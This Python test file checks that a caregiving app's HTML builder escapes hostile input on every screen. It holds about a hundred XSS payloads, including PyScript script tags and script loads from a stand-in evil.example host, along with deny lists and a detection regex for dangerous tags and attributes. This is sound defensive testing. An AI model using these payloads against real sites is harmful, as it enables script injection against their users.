"""Markup is escaped by construction: hostile text (typed, imported or synced)
reaches the page only as text, whether it is a text child, an attribute value
or anything a screen shows. PyScript payloads matter as much as classic ones:
a ``<script type="py">`` that reached the DOM would run Python."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, example, given, settings, strategies as st

from carelog.domain.events import Event
from carelog.domain.fold import Entry
from carelog.ui import views
from carelog.ui.markup import TAGS, Markup, attrs_markup, escape, fragment, h
from carelog.ui.state import State, StorageInfo, Toast

# --- payloads --------------------------------------------------------------

_CORE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    # PyScript and Pyodide
    "<script type=\"py\">import js; js.alert(1)</script>",
    "<script type='py'>from pyscript import window; window.alert(1)</script>",
    "<script type=py>import js</script>",
    "<script type=\"mpy\">import js</script>",
    "<script type=\"py-editor\">import js</script>",
    "<script type=\"py\" src=\"https://evil.example/x.py\"></script>",
    "<script type=\"py\" config='{\"packages\":[\"evil\"]}'></script>",
    "<py-script>import js; js.alert(1)</py-script>",
    "<py-script src=\"evil.py\"></py-script>",
    "<mpy-script>import js</mpy-script>",
    "<py-repl>import js</py-repl>",
    "<py-config>packages = [\"evil\"]</py-config>",
    "<div py-click=\"evil\">x</div>",
    "<button py-click=\"print\" mpy-click=\"print\">x</button>",
    "<script type=\"text/python\">import js</script>",
    "<script>pyodide.runPython('import js')</script>",
    # attribute breakouts
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" autofocus onfocus=\"alert(1)",
    "\"/><svg onload=alert(1)>",
    "x\" onerror=\"alert(1)\" y=\"",
    "`onmouseover=alert(1)",
    "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onclick=\"alert(1)",
    "\"\"\"><img src=x onerror=alert(1)>",
    # unicode tricks
    "＜script＞alert(1)＜/script＞",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "<\u0000script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<script\u2028>alert(1)</script>",
    "<img src=x o\u200bnerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<\U0001F600 onload=alert(1)>",
    "<script>alert('é\U0001F600')</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<<script>script>alert(1)<</script>/script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<a\thref=javascript:alert(1)>x</a>",
]

_WRAPS = ["{}", "Mum {} Smith", "\"{}\"", "'{}'", "{}{}", "</strong>{}<strong>", "a&b {} c>d"]
PAYLOADS = list(dict.fromkeys(w.format(p, p) if w == "{}{}" else w.format(p) for p in _CORE for w in _WRAPS))
PAYLOADS += [p.upper() for p in _CORE]
assert len(PAYLOADS) >= 200
# One test per chunk keeps the run fast; a failure names the payload.
CHUNKS = [PAYLOADS[i::12] for i in range(12)]


# --- a strict parse of what we output --------------------------------------

class _Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        raise AssertionError(f"a comment reached the output: {data!r}")

    def unknown_decl(self, data):
        raise AssertionError(f"a declaration reached the output: {data!r}")


def parse(markup: str) -> _Collect:
    parser = _Collect()
    parser.feed(markup)
    parser.close()
    return parser


_DANGEROUS = re.compile(r"<\s*/?\s*(script|py-|mpy-|iframe|object|embed|img|style|link|meta|base|math|"
                        r"template|noscript|body|video|audio|marquee|isindex)", re.I)


def assert_safe(markup: str, allowed_tags=TAGS) -> _Collect:
    """No dangerous tag, no handler attribute, no code URL, only allowed tags."""
    low = markup.lower()
    assert "<script" not in low and "<py-script" not in low and "<mpy-script" not in low
    assert not _DANGEROUS.search(markup), markup
    parsed = parse(markup)
    for tag, attrs in parsed.tags:
        assert tag in allowed_tags, f"unexpected tag <{tag}>"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"handler attribute {name} on <{tag}>"
            assert not name.startswith(("py-", "mpy-")), f"PyScript attribute {name} on <{tag}>"
            if name in ("href", "src", "action", "formaction"):
                assert not re.match(r"\s*(javascript|data|vbscript):", value or "", re.I), value
    return parsed


# --- markup.h with every payload -------------------------------------------

@pytest.mark.parametrize("chunk", CHUNKS)
def test_payload_as_text_child_stays_text(chunk):
    for payload in chunk:
        _text_child(payload)


def _text_child(payload):
    out = h("p", {"class": "note"}, payload)
    assert out.startswith('<p class="note">') and out.endswith("</p>")
    inner = out[len('<p class="note">'):-len("</p>")]
    assert "<" not in inner and ">" not in inner, "no unescaped < or > from the payload"
    assert html.unescape(inner) == payload, "the text arrives exactly as typed"
    parsed = assert_safe(out)
    assert [t for t, _ in parsed.tags] == ["p"]
    assert "".join(parsed.text) == payload


@pytest.mark.parametrize("chunk", CHUNKS)
def test_payload_as_attribute_value_stays_in_its_attribute(chunk):
    for payload in chunk:
        _attribute_value(payload)


def _attribute_value(payload):
    out = h("input", {"type": "text", "name": "note", "value": payload, "data-id": payload, "title": payload})
    parsed = assert_safe(out)
    assert len(parsed.tags) == 1
    tag, attrs = parsed.tags[0]
    assert tag == "input" and set(attrs) == {"type", "name", "value", "data-id", "title"}
    assert attrs["value"] == attrs["data-id"] == attrs["title"] == payload
    for value in re.findall(r'="([^"]*)"', out):
        assert "<" not in value and ">" not in value and "'" not in value


@pytest.mark.parametrize("chunk", CHUNKS)
def test_payload_in_textarea_and_option_and_nested_children(chunk):
    for payload in chunk:
        _nested(payload)


def _nested(payload):
    out = fragment(h("textarea", {"name": "n"}, payload),
                   h("select", None, h("option", {"value": payload, "selected": True}, payload)),
                   h("ul", None, [h("li", None, payload, 5, None, [payload])]),
                   escape(payload))
    parsed = assert_safe(out)
    assert [t for t, _ in parsed.tags] == ["textarea", "select", "option", "ul", "li"]
    assert "".join(parsed.text) == payload * 3 + "5" + payload * 2


@pytest.mark.parametrize("chunk", CHUNKS)
def test_payload_as_url_is_refused(chunk):
    for payload in chunk:
        for name in ("href", "src", "action", "formaction"):
            with pytest.raises(ValueError, match="URL not allowed"):
                h("a", {name: payload}, "x")


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)",
                                 "java\tscript:alert(1)", "javascript&colon;alert(1)", "data:text/html,<b>",
                                 "vbscript:x", "//evil.example", "https://evil.example", "http://x",
                                 "#\"><script>", "#x y", "./a\"b", "mailto:a@b\"onclick=x", "tel:1;javascript:x",
                                 "", True])
def test_unsafe_urls_raise(url):
    with pytest.raises(ValueError):
        h("a", {"href": url}, "x")


@pytest.mark.parametrize("url", ["#/", "#/entry/id-1/history", "./sw.js", "tel:+44 20 7946 0000",
                                 "mailto:care@example.org"])
def test_safe_urls_pass(url):
    assert f'href="{html.escape(url)}"' in h("a", {"href": url}, "x")


@pytest.mark.parametrize("tag", ["script", "SCRIPT", "Script", "py-script", "mpy-script", "py-repl", "py-config",
                                 "iframe", "object", "embed", "img", "style", "link", "meta", "base", "frame",
                                 "math", "template", "video", "audio", "body", "html", "noscript", "script ",
                                 "p onclick=x", "p><script", "", "svg:script", "foreignObject", "animate", "set"])
def test_disallowed_tags_raise(tag):
    with pytest.raises(ValueError):
        h(tag)


@pytest.mark.parametrize("name", ["onclick", "onload", "onerror", "ONCLICK", "onClick", "on", "onmouseover",
                                  "py-click", "mpy-click", "py-exec", "x onclick", "a\"b", "a=b", "a>b", "",
                                  "style ", " title", "title\n", "xlink:href", "data-x onclick", "1x", "-x",
                                  "x-", "é"])
def test_disallowed_attributes_raise(name):
    with pytest.raises(ValueError):
        h("p", {name: "x"})


def test_void_tags_take_no_children():
    with pytest.raises(ValueError):
        h("input", None, "x")


def test_boolean_and_none_attributes():
    assert attrs_markup({"required": True, "disabled": False, "title": None}) == " required"
    assert h("p", None) == "<p></p>"


def test_markup_children_pass_through_unescaped_and_strings_do_not():
    inner = h("b", None, "<i>")
    assert h("p", None, inner) == "<p><b>&lt;i&gt;</b></p>"
    assert h("p", None, str(inner)) == "<p>&lt;b&gt;&amp;lt;i&amp;gt;&lt;/b&gt;</p>"
    assert isinstance(escape("<"), Markup) and escape("<\"'") == "&lt;&quot;&#x27;"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60), st.text(max_size=60))
def test_any_text_is_text(child, value):
    out = h("div", {"title": value}, child)
    parsed = assert_safe(out)
    assert parsed.tags == [("div", {"title": value})]
    assert "".join(parsed.text) == child


# --- whole screens with hostile data ----------------------------------------

NOW = 1_764_000_000_000


def _entry(ident: str, kind: str, payload: dict, bad: str, at: int, conflict=()) -> Entry:
    return Entry(id=ident, recipient="r1", kind=kind, at=at, payload=payload, created_by=bad,
                 created_hlc="1764000000000-000000-d1", updated_by=bad, updated_hlc="1764000000001-000000-d2",
                 head_ids=(ident,), deleted=False, conflict=tuple(conflict))


def _event(ident: str, op: str, kind: str, payload: dict, bad: str, n: int) -> Event:
    return Event(id=ident, recipient="r1", kind=kind, entry="e-note", op=op,
                 revises=() if op == "create" else ("e-note",), at=NOW - n, payload=payload, author=bad,
                 device=bad[:100] or "d", hlc=f"{NOW - 1000 + n:013d}-000000-{bad}")


def hostile_state(bad: str, screen: str, **changes) -> State:
    recipient = _entry("r1", "recipient", {"name": bad, "birth_date": bad}, bad, NOW)
    versions = [_event("v1", "edit", "note", {"text": bad}, bad, 1), _event("v2", "delete", "note", {}, bad, 2)]
    timeline = [
        _entry("e-note", "note", {"text": bad}, bad, NOW - 60_000, conflict=versions),
        _entry("e-med", "medication", {"name": bad, "status": "refused", "reason": bad, "note": bad,
                                       "dose": 5, "unit": bad, "route": bad}, bad, NOW - 120_000),
        _entry("e-med2", "medication", {"name": bad, "status": bad, "dose": bad, "unit": "mg", "route": "oral"},
               bad, NOW - 130_000),
        _entry("e-bp", "vital", {"type": "blood_pressure", "systolic": bad, "diastolic": 80, "unit": bad,
                                 "note": bad}, bad, NOW - 86_400_000),
        _entry("e-temp", "vital", {"type": "temperature", "value": bad, "unit": "Cel", "note": bad}, bad,
               NOW - 2 * 86_400_000),
        _entry("e-odd", "vital", {"type": bad, "value": bad}, bad, NOW - 3 * 86_400_000),
        _entry("e-sym", "symptom", {"name": bad, "severity": bad, "note": bad}, bad, NOW - 3 * 86_400_000),
        _entry("e-new", "futurekind", {"text": bad}, bad, NOW - 4 * 86_400_000),
    ]
    fields = ["name", "birth_date", "status", "dose", "unit", "route", "reason", "note", "type", "systolic",
              "diastolic", "value", "severity", "text", "at_local"]
    state = State(
        screen=screen, route="#/", caregiver=bad, device_id=bad, recipients=[recipient], recipient=recipient,
        timeline=timeline, log_kind="note", entry=timeline[0],
        history=[_event("e-note", "create", "note", {"text": bad}, bad, 0)] + versions,
        form_values={f: bad for f in fields}, form_errors={f: bad for f in fields}, form_problem=bad,
        toast=Toast(bad, undo=True, tone="warn"), update_ready=True, db_replaced=False,
        storage=StorageInfo(persisted=False, usage=1_000_000, quota=2_000_000_000), build=bad,
        now_ms=NOW, offset_minutes=60)
    for key, value in changes.items():
        setattr(state, key, value)
    return state


def _screens():
    views.load_later()  # the screens a start imports after the first one, too
    for screen in views.SCREENS:
        yield screen, {}
    for kind in ("medication", "symptom", "note"):
        yield "log", {"log_kind": kind}
    yield "log", {"log_kind": "vital", "vital_type": None}
    for vital in views.VITALS:
        yield "log", {"log_kind": "vital", "vital_type": vital}
    for ident in ("e-med", "e-med2", "e-bp", "e-temp", "e-sym", "e-odd", "e-new"):
        yield "entry", {"entry_id": ident}
    yield "entry", {"entry": None}
    yield "history", {"entry": None}
    yield "loading", {}
    yield "home", {"db_replaced": True}
    yield "home", {"timeline": []}


SCREEN_CASES = list(_screens())
# A third of the core payloads (all kinds are represented) on every screen,
# and every core payload on the screens that show the most synced text.
SCREEN_PAYLOADS = list(dict.fromkeys(_CORE[::3] + [p for p in _CORE if "py" in p.lower()]))
FULL_SCREENS = {"home", "entry", "history"}


def _render(bad: str, screen: str, changes: dict) -> str:
    changes = dict(changes)
    state = hostile_state(bad, screen)
    ident = changes.pop("entry_id", None)
    if ident:
        state.entry = next(e for e in state.timeline if e.id == ident)
    for key, value in changes.items():
        setattr(state, key, value)
    return views.render(state)


@pytest.mark.parametrize("screen, changes", SCREEN_CASES,
                         ids=[f"{s}-{'-'.join(f'{k}={v}' for k, v in c.items())}" for s, c in SCREEN_CASES])
def test_every_screen_escapes_hostile_data(screen, changes):
    for bad in _CORE if screen in FULL_SCREENS and not changes else SCREEN_PAYLOADS:
        out = _render(bad, screen, changes)
        parsed = assert_safe(out)
        if any(c in bad for c in "<>&"):
            assert bad not in out, f"payload appears unescaped on {screen}"
        # every opening tag the parser saw is one we allow; payload text came out as text
        text = "".join(parsed.text)
        if screen in ("home", "recipients", "settings", "welcome") and bad and not changes:
            assert bad in text or bad[:8] in text


def test_screens_show_the_hostile_name_as_text():
    bad = "<script type=\"py\">import js</script>"
    out = views.render(hostile_state(bad, "home"))
    assert "&lt;script type=&quot;py&quot;&gt;import js&lt;/script&gt;" in out or \
        "&lt;script type=\"py\"&gt;import js&lt;/script&gt;" in out
    assert "by &lt;script" in out


# --- screens never fail on odd synced payloads -------------------------------

_json_leaf = st.one_of(st.none(), st.booleans(), st.integers(-10**6, 10**6),
                       st.floats(allow_nan=False, allow_infinity=False), st.text(max_size=12),
                       st.sampled_from(_CORE[:12] + list(views.VITALS) + ["mg", "oral", "given", "Cel"]))
_json_value = st.recursive(_json_leaf, lambda inner: st.one_of(
    st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)), max_leaves=6)
_payloads = st.dictionaries(
    st.sampled_from(["name", "text", "type", "unit", "value", "systolic", "diastolic", "dose", "route",
                     "status", "reason", "note", "severity", "birth_date", "loinc"]), _json_value, max_size=8)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(["note", "medication", "vital", "symptom", "recipient", "futurekind"]), _payloads,
       st.sampled_from(["home", "entry", "history", "recipients"]))
@example("vital", {"type": [None]}, "entry")
@example("vital", {"type": "peak_flow", "value": 300}, "entry")  # a type from a newer carelog
@example("note", {"text": 5}, "home")
@example("note", {}, "history")
@example("medication", {"name": ["x"], "unit": ["mg"], "dose": 1, "route": {}, "status": []}, "home")
@example("recipient", {"name": 5}, "recipients")
def test_screens_render_any_synced_payload(kind, payload, screen):
    """A record from another device (or a newer version) may carry any JSON
    payload; a screen shows what it can and never fails or lets markup in."""
    state = hostile_state("<b>x</b>", screen)
    odd = _entry("e-odd", kind, payload, "Ann", NOW - 1000)
    state.timeline = [odd] + state.timeline
    state.entry = odd
    state.recipients = [_entry("r2", "recipient", payload, "Ann", NOW)] + state.recipients
    state.history = [Event(id="h1", recipient="r1", kind=kind, entry="e-odd", op="create", revises=(),
                           at=NOW, payload=payload, author="Ann", device="d1", hlc="1764000000000-000000-d1")]
    assert_safe(views.render(state))
